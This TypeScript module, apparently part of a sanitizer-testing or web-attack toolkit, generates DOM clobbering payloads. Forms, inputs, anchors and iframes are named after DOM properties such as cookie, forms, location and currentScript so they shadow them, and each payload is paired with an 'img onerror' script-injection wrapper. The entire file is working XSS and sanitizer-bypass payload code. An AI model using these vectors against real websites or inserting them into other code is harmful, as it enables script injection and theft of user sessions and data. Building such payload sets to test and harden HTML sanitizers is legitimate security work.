import type { Vector } from './payload';

/** What sanitizers and pages ask of the DOM, as names of elements that would answer for it. */
const names = [
  ...['attributes', 'childNodes', 'parentNode', 'nodeName', 'nodeType', 'textContent', 'namespaceURI', 'hasChildNodes'],
  ...[
    'removeChild',
    'getAttribute',
    'setAttribute',
    'insertBefore',
    'cloneNode',
    'content',
    'shadowRoot',
    'nextSibling',
  ],
  ...['cookie', 'body', 'head', 'forms', 'defaultView', 'implementation', 'createElement', 'getElementById'],
  ...['currentScript', 'location', 'root', 'chrome', 'browser'],
];
const image = (code: string) => `<img src=x onerror=${code}>`;

export const clobberingVectors: readonly Vector[] = [
  ...names.map(
    (name): Vector =>
      (code) =>
        `<form><input name=${name}><input name=${name}>${image(code)}</form>`,
  ),
  ...names.slice(0, 12).map(
    (name): Vector =>
      (code) =>
        `<form id=${name}></form><img name=${name}>${image(code)}`,
  ),
  (code) => `<a id=root></a><a id=root name=innerHTML href="${image(code)}">x</a>`,
  (code) => `<iframe name=chrome srcdoc="<a id=runtime></a>"></iframe>${image(code)}`,
];
